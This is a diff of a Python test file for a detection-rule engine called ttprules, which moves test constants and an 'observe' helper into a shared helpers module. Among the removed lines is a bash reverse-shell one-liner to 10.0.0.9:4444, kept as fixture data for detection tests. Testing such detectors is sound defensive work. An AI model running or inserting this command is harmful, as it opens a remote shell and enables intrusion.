@@ -20,15 +20,13 @@ from ttprules import store
 from ttprules.models import Rule, RuleState, RuleStateChange, RuleStats, Tag
 from ttprules.store import set_state, sync_directory
 
-from .engine_helpers import DNS_ANYTHING, REVERSE_SHELL, run_engine, write_rule
+from .engine_helpers import DNS_ANYTHING, HOST, REVERSE_SHELL, SHELL, observe, run_engine, write_rule
 from .store_helpers import snapshot, state_events
 
 RULES = "admin:ttprules_rule_changelist"
 SYNC = "admin:ttprules_rule_sync"
 HISTORY = "admin:ttprules_rulestatechange_changelist"
 TAGS = "admin:ttprules_tag_changelist"
-SHELL = "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
-HOST = "stigmem://acme/host/web-1"
 OTHER_HOST = "stigmem://acme/host/db-2"
 BROKEN = "rule_id: BAD\nrule_version: 0\nname: broken\nsurprise: yes\n"
 
@@ -50,20 +48,6 @@ def rule(rule_id: str) -> Rule:
 
 def rule_url(rule_id: str, page: str = "change") -> str:
     return reverse(f"admin:ttprules_rule_{page}", args=[rule(rule_id).pk])
-
-
-def observe(client, value: str, relation: str = "observed:command", entity: str = HOST) -> dict:
-    body = {
-        "entity": entity,
-        "relation": relation,
-        "value": {"type": "string", "v": value},
-        "source": "stigmem://acme/agent/sensor",
-        "confidence": 0.8,
-        "scope": "team",
-    }
-    response = client.post("/v1/facts", body, format="json")
-    assert response.status_code == 201, response.content
-    return response.json()
 
 
 @pytest.fixture
